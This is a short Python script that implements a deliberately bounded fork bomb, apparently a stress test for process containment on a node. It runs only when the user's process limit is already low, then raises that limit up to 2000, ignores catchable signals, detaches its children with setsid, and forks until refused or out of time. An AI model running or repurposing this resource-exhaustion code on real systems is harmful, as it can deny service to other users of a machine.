"""A fork bomb that is one: its processes fork until the kernel refuses, and again whenever one
of them has been killed. Each begins a session of its own and loses its parent, and none heeds a
signal that can be ignored.

Who lights it has bounded the processes of its node, and those of its user: without the latter it is
not lit. Two bounds are its own, where those fail: a limit that it cannot raise, and its seconds."""

import os
import resource
import signal
import sys
import time

end = time.monotonic() + float(sys.argv[1])
soft, hard = resource.getrlimit(resource.RLIMIT_NPROC)
if not 0 < soft <= 1000:
    sys.exit("the number of processes is not bounded")
most = min(2000, hard % (1 << 64))
resource.setrlimit(resource.RLIMIT_NPROC, (most, most))  # to undo the bound, as one would
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)  # CHLD too: the dead are not waited for
first, refused = os.getpid(), False
while time.monotonic() < end:
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
    except OSError as e:
        if os.getpid() == first and not refused:
            refused = True
            print("refused:", e, flush=True)
            with open("/proc/self/comm", "w") as name:  # what a node's ps and pgrep show
                name.write("refused")
        time.sleep(0.1)
